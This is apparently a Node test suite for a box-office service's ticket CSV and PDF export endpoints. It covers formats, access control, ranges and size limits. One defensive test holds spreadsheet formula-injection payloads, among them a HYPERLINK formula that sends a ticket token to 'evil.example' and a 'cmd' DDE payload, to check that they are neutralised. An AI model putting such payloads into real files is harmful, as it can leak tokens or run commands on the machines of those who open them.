import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { formatTicketNumber, importPublicKey, verifyToken } from '@boxoffice/tickets'
import { completedBatch } from './completed-batch.ts'
import { parseCsv } from '@boxoffice/testkit/csv-reader'
import { readPdf } from '@boxoffice/testkit/pdf-reader'
import { addTestAccount, buildTestApp, createWithChunks, databaseSnapshot, errorOf, makeTestBatch, signIn, type Client } from './helper.ts'

async function download(api: Client, url: string) {
  const response = await api.inject({ method: 'GET', url })
  assert.equal(response.statusCode, 200, response.body.slice(0, 500))
  return response
}

describe('GET /api/batches/:id/tickets.csv', () => {
  test('a 1,000-ticket batch downloads as a header and 1,000 rows that match the database, each token verifying', async (t) => {
    const { api, database } = await buildTestApp(t)
    // A comma and quotes in the event name must survive the round trip.
    const batch = await completedBatch(api, { quantity: 1000, event: 'Gala, "Live" 2026', price: { amountMinor: 2550, currency: 'EUR' } })
    const response = await download(api, `/api/batches/${batch.id}/tickets.csv`)
    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8')
    assert.equal(
      response.headers['content-disposition'],
      `attachment; filename="Gala-Live-2026-General-admission-${batch.id.slice(0, 8)}.csv"`,
    )

    const [header, ...rows] = parseCsv(response.body)
    assert.deepEqual(header, ['serial', 'ticket_number', 'token', 'event', 'ticket_type', 'price'])
    assert.equal(rows.length, 1000)
    const stored = (await databaseSnapshot(database)).tickets.filter((ticket) => (ticket as { batch_id: string }).batch_id === batch.id)
    assert.deepEqual(
      rows.map(([serial, , token]) => ({ batch_id: batch.id, serial: Number(serial), token })),
      stored,
    )
    const publicKey = await importPublicKey(batch.body.publicKey)
    for (const [serial, ticketNumber, token, event, ticketType, price] of rows as string[][]) {
      assert.equal(ticketNumber, formatTicketNumber(batch.id, Number(serial)))
      assert.deepEqual([event, ticketType, price], ['Gala, "Live" 2026', 'General admission', '25.50 EUR'])
      const verdict = await verifyToken(token!, { batchId: batch.id, publicKey })
      assert.ok(verdict.ok && verdict.payload.serial === Number(serial), `serial ${serial}`)
    }
  })

  test('an event or ticket type that a spreadsheet would run as a formula is written as text: a leading quote, and quoted', async (t) => {
    const { api } = await buildTestApp(t)
    const formulas = [
      ['=HYPERLINK("https://evil.example/?t="&C2,"Click for refund")', "+1+cmd|' /C calc'!A0"],
      ['-2+3', '@SUM(A1:A9)'],
      ['\t=1+1', '\r=1+1'],
    ] as const
    for (const [event, ticketType] of formulas) {
      const batch = await completedBatch(api, { quantity: 3, event, ticketType })
      const response = await download(api, `/api/batches/${batch.id}/tickets.csv`)
      const [, ...rows] = parseCsv(response.body)
      assert.equal(rows.length, 3)
      for (const row of rows) assert.deepEqual(row.slice(3, 5), [`'${event}`, `'${ticketType}`], JSON.stringify(event))
      // Quoted: the quote that starts the cell is inside the quotes, so a reader cannot drop it with them.
      assert.ok(response.body.includes(`"'${event.replaceAll('"', '""')}"`), response.body.slice(0, 300))
    }
  })

  test('a batch that is not completed is 409 BATCH_NOT_COMPLETED, for the CSV, the PDF and its parts', async (t) => {
    const { api } = await buildTestApp(t)
    const open = await makeTestBatch({ quantity: 100 })
    await createWithChunks(api, open, [0])
    const cancelled = await makeTestBatch({ quantity: 50 })
    await createWithChunks(api, cancelled, [0])
    await api.inject({ method: 'POST', url: `/api/batches/${cancelled.id}/cancel` })
    for (const [batch, state] of [
      [open, /is still open \(50 of 100 tickets received\); complete it first/],
      [cancelled, /is cancelled/],
    ] as const) {
      for (const path of ['tickets.csv', 'tickets.pdf', 'tickets.pdf/parts']) {
        const response = await api.inject({ method: 'GET', url: `/api/batches/${batch.id}/${path}` })
        assert.equal(response.statusCode, 409, path)
        assert.equal(errorOf(response).code, 'BATCH_NOT_COMPLETED')
        assert.match(errorOf(response).message, state)
      }
    }
  })

  test('HEAD of a download is no route (404): it would make the whole file only to throw it away', async (t) => {
    const { api } = await buildTestApp(t)
    const batch = await completedBatch(api, { quantity: 50 })
    for (const url of [`/api/batches/${batch.id}/tickets.csv`, `/api/batches/${batch.id}/tickets.pdf`]) {
      const response = await api.inject({ method: 'HEAD', url })
      assert.equal(response.statusCode, 404, url)
    }
  })

  test('another staff account cannot export the batch (404, as for a batch that does not exist); an admin can', async (t) => {
    const { app, api } = await buildTestApp(t)
    await addTestAccount(app, 'other')
    await addTestAccount(app, 'boss', 'admin')
    const batch = await completedBatch(api, { quantity: 20 })
    const other = (await signIn(app, 'other')).api
    for (const path of ['tickets.csv', 'tickets.pdf', 'tickets.pdf/parts']) {
      const response = await other.inject({ method: 'GET', url: `/api/batches/${batch.id}/${path}` })
      assert.equal(response.statusCode, 404, path)
      assert.deepEqual(errorOf(response), { code: 'BATCH_NOT_FOUND', message: `batch ${batch.id} not found` })
    }
    const admin = (await signIn(app, 'boss')).api
    assert.equal(parseCsv((await download(admin, `/api/batches/${batch.id}/tickets.csv`)).body).length, 21)
  })
})

describe('GET /api/batches/:id/tickets.pdf', () => {
  test('200 tickets, one per page: 200 pages whose QR codes decode to the tokens, with number, event and price', async (t) => {
    const { api } = await buildTestApp(t)
    const batch = await completedBatch(api, { quantity: 200, event: 'Café Noir – “Live”' })
    const response = await download(api, `/api/batches/${batch.id}/tickets.pdf?layout=single`)
    assert.equal(response.headers['content-type'], 'application/pdf')
    assert.match(
      String(response.headers['content-disposition']),
      /^attachment; filename="Cafe-Noir-Live-General-admission-[0-9a-f]{8}\.pdf"$/,
    )
    const pdf = await readPdf(response.rawPayload)
    assert.equal(pdf.pageCount, 200)
    for (const [serial, page] of pdf.pages.entries()) {
      assert.deepEqual(page.qrCodes, [await batch.token(serial)], `page ${serial + 1}`)
      for (const text of [formatTicketNumber(batch.id, serial), '45.00 EUR', 'General admission'])
        assert.ok(page.texts.includes(text), text)
      assert.ok(page.texts.join(' ').includes('Café Noir – “Live”'))
    }
  })

  test('eight to an A4 sheet: 200 tickets on 25 pages, in serial order', async (t) => {
    const { api } = await buildTestApp(t)
    const batch = await completedBatch(api, { quantity: 200 })
    const pdf = await readPdf((await download(api, `/api/batches/${batch.id}/tickets.pdf?layout=a4-8`)).rawPayload)
    assert.equal(pdf.pageCount, 25)
    const decoded = pdf.pages.flatMap((page) => page.qrCodes)
    assert.deepEqual(decoded, await Promise.all(Array.from({ length: 200 }, (_, serial) => batch.token(serial))))
  })

  test('a serial range prints just those tickets; a range outside the batch or a bad layout is refused', async (t) => {
    const { api } = await buildTestApp(t)
    const batch = await completedBatch(api, { quantity: 60 })
    const response = await download(api, `/api/batches/${batch.id}/tickets.pdf?layout=a4-8&from=10&to=26`)
    assert.match(String(response.headers['content-disposition']), /-10-26\.pdf"$/)
    const pdf = await readPdf(response.rawPayload)
    assert.equal(pdf.pageCount, 3)
    assert.deepEqual(
      pdf.pages.flatMap((page) => page.qrCodes),
      await Promise.all(Array.from({ length: 17 }, (_, i) => batch.token(10 + i))),
    )

    const refusals: [string, number, string][] = [
      ['from=10&to=60', 422, 'EXPORT_RANGE_INVALID'],
      ['from=30&to=20', 422, 'EXPORT_RANGE_INVALID'],
      ['layout=a4-9', 400, 'INVALID_REQUEST'],
      ['from=-1', 400, 'INVALID_REQUEST'],
    ]
    for (const [query, status, code] of refusals) {
      const refused = await api.inject({ method: 'GET', url: `/api/batches/${batch.id}/tickets.pdf?${query}` })
      assert.equal(refused.statusCode, status, query)
      assert.equal(errorOf(refused).code, code, query)
    }
  })

  test('a batch larger than one file is refused whole (422 EXPORT_RANGE_TOO_LARGE) and listed in parts of 5,000', async (t) => {
    const { api } = await buildTestApp(t)
    const batch = await completedBatch(api, { quantity: 5001 })
    const whole = await api.inject({ method: 'GET', url: `/api/batches/${batch.id}/tickets.pdf` })
    assert.equal(whole.statusCode, 422)
    assert.equal(errorOf(whole).code, 'EXPORT_RANGE_TOO_LARGE')
    assert.match(errorOf(whole).message, /5,001 tickets is more than one PDF holds \(5,000\)/)
    assert.equal(errorOf(whole).details.partsUrl, `/api/batches/${batch.id}/tickets.pdf/parts?layout=single`)

    const parts = (await download(api, `/api/batches/${batch.id}/tickets.pdf/parts?layout=a4-8`)).json()
    assert.deepEqual(parts, {
      batchId: batch.id,
      layout: 'a4-8',
      maxTicketsPerFile: 5000,
      parts: [
        { from: 0, to: 4999, tickets: 5000, pages: 625, url: `/api/batches/${batch.id}/tickets.pdf?layout=a4-8&from=0&to=4999` },
        { from: 5000, to: 5000, tickets: 1, pages: 1, url: `/api/batches/${batch.id}/tickets.pdf?layout=a4-8&from=5000&to=5000` },
      ],
    })
    const last = await readPdf((await download(api, parts.parts[1]!.url)).rawPayload)
    assert.deepEqual(
      last.pages.map((page) => page.qrCodes),
      [[await batch.token(5000)]],
    )
  })
})
